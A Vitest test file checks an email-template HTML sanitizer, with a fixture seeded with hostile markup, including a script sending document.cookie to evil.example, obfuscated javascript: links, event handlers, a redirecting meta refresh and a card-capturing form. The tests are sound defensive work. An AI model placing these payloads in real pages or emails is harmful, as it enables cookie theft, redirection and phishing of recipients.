import { describe, expect, it } from 'vitest';
import { sanitizeTemplateHtml } from '../../../functions/lib/html-sanitizer.js';

const EMAIL = `<!doctype html>
<html><head>
<meta charset="utf-8"><meta name="viewport" content="width=device-width">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<title>Spring sale</title>
<style>.lead { color: #c00; } @media (max-width: 600px) { .col { display: block; } }</style>
<link rel="stylesheet" href="https://evil.example/track.css">
<script>document.location = 'https://evil.example/?' + document.cookie</script>
</head>
<body style="margin:0" onload="steal()">
<center>
<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center">
  <tr><td class="lead col" valign="top" style="padding: 8px; font-family: Arial">
    Hello {{ field:f1 | there }},
    <a href="https://shop.example/spring?id={{ email }}" target="_blank">Shop</a>
    <a href="{{ unsubscribe_url }}">Unsubscribe</a>
    <img src="https://cdn.example/logo.png" width="120" alt="Logo" onerror="steal()">
    <img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">
    <a href="javascript:steal()">one</a><a href="JaVa&#x09;Script:steal()">two</a><a href="data:text/html,<script>steal()</script>">three</a>
    <svg onload="steal()"><script>steal()</script></svg>
    <iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="y.swf">
    <form action="https://evil.example/"><input name="card"><button>Pay</button></form>
  </td></tr>
</table>
</center>
</body></html>`;

describe('sanitizeTemplateHtml', () => {
  const html = sanitizeTemplateHtml(EMAIL);

  it('removes scripts, frames, plugins, forms and every event handler', () => {
    // Assess
    expect(html).not.toMatch(/<script|<iframe|<object|<embed|<form|<input|<svg/i);
    expect(html).not.toMatch(/\bon(load|error)=/i);
    expect(html).not.toContain('steal()');
    expect(html).not.toContain('document.cookie');
  });

  it('removes javascript: and data: links, however they are written, keeping the link text', () => {
    // Assess
    expect(html).not.toMatch(/javascript|data:text/i);
    expect(html).toContain('<a>one</a><a>two</a><a>three</a>');
  });

  it('removes what would redirect the page or load from elsewhere: refresh, base, linked stylesheets', () => {
    // Assess
    expect(html).not.toMatch(/http-equiv|refresh|<base|<link|track\.css/i);
    expect(html).toContain('<meta charset="utf-8" />');
    expect(html).toContain('<meta name="viewport" content="width=device-width" />');
  });

  it('keeps the design: doctype, style sheet, inline styles, layout tables and their attributes', () => {
    // Assess
    expect(html.startsWith('<!DOCTYPE html>')).toBe(true);
    expect(html).toContain('<style>.lead { color: #c00; } @media (max-width: 600px) { .col { display: block; } }</style>');
    expect(html).toContain('<body style="margin:0">');
    expect(html).toContain('<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center">');
    expect(html).toContain('<td class="lead col" valign="top" style="padding:8px;font-family:Arial">');
    expect(html).toContain('<center>');
  });

  it('keeps links, images (inline data too) and personalisation tags', () => {
    // Assess
    expect(html).toContain('Hello {{ field:f1 | there }},');
    expect(html).toContain('<a href="https://shop.example/spring?id={{ email }}" target="_blank">Shop</a>');
    expect(html).toContain('<a href="{{ unsubscribe_url }}">Unsubscribe</a>');
    expect(html).toContain('<img src="https://cdn.example/logo.png" width="120" alt="Logo" />');
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />');
  });

  it('adds no doctype to a fragment', () => {
    // Act
    const fragment = sanitizeTemplateHtml('<p onclick="x()">Hi</p>');

    // Assess
    expect(fragment).toBe('<p>Hi</p>');
  });
});
